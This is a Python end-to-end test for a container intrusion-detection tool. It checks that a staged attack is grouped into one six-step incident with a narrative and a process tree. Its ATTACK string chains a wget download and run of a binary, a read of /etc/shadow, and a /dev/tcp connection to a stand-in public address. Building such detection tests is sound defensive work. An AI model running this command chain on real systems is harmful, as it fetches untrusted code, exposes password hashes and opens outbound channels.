"""An attack on a real container is one incident, with what was done in its order."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from msgspec.structs import replace

from hullwatch.alerts.maker import AlertMaker
from hullwatch.alerts.mask import Masker
from hullwatch.captures.judge import Judge, judge_together
from hullwatch.captures.reader import CaptureReader
from hullwatch.config.rule_switch import RuleSwitch, RuleTarget
from hullwatch.formats.incident import story, tree
from hullwatch.formats.process_tree import tree_text
from hullwatch.rules.loader import load
from hullwatch.rules.pack import builtin_files
from tests.alerts.placing import grouper, incident_of
from tests.e2e.test_captures import Started

if TYPE_CHECKING:
    from pathlib import Path

    from hullwatch.alerts.alert import Alert
    from tests import lab

ATTACK = (
    "wget -q -O /bin/updated http://127.0.0.1:8000/busybox; chmod +x /bin/updated; /bin/updated true; "
    "cat /etc/shadow; echo > /dev/tcp/203.0.113.9/443"
)
STEPS = [
    "Shell in a container",
    "Download tool in a container",
    "System program written",
    "Downloaded program run",
    "Sensitive file read",
    "Shell connects to a public address",
]


def alerts_of(capture: Path) -> list[Alert]:
    """Return the alerts of a capture as somebody gets them who keeps them."""
    switch = RuleSwitch(enable=RuleTarget(rule="Download tool in a container"))
    maker = AlertMaker(Masker(), "node1", {}, with_origin=True)
    found: list[Alert] = []
    with capture.open("rb") as stream:
        reader = CaptureReader(stream, capture.name)
        for (matches,) in judge_together(
            reader, capture.name, [Judge(load(builtin_files(), switches=[switch]), 50_000)]
        ):
            for match in matches:
                maker.take(match)
            found += maker.made()
    return [replace(alert, id=f"run-{number}") for number, alert in enumerate(found)]


@pytest.mark.engine
def test_a_shell_a_download_a_drop_a_run_a_secret_and_a_connection_are_one_incident_of_six_steps(
    docker_engine: lab.Engine, tmp_path: Path
) -> None:
    capture = tmp_path / "attack.hwcap"
    recording = Started(tmp_path, "record", "-w", str(capture), docker_host=docker_engine.url)
    victim = docker_engine.run("busybox", "httpd", "-f", "-p", "8000", "-h", "/bin", name="attacked")
    docker_engine.exec(victim, ["bash", "-c", ATTACK])
    docker_engine.remove(victim)
    recording.end()
    alerts = [alert for alert in alerts_of(capture) if alert.container_id == victim.id[:12]]
    placed = grouper().place_all(alerts)
    incident = incident_of(placed[-1])
    assert {one.incident.id for one in placed if one.incident is not None} == {incident.id}
    assert [step.rule for step in incident.steps] == STEPS
    assert {alert.origin.workload for alert in alerts if alert.origin is not None} == {
        docker_engine.image.rpartition(":")[0]
    }
    assert len({alert.origin.session for alert in alerts if alert.origin is not None}) == 1
    assert all("the same exec session" in step.why for step in incident.steps if step.why)
    told = story(incident, alerts)
    assert "Somebody entered the container from outside as root, with bash (pid " in " ".join(told.split())
    assert "203.0.113.9:443" in told
    marks = [line.partition("<== ")[2] for line in tree_text(tree(incident, alerts)).splitlines() if "<==" in line]
    assert marks == ["steps 1, 6", "steps 2, 3", "step 4", "step 5"]
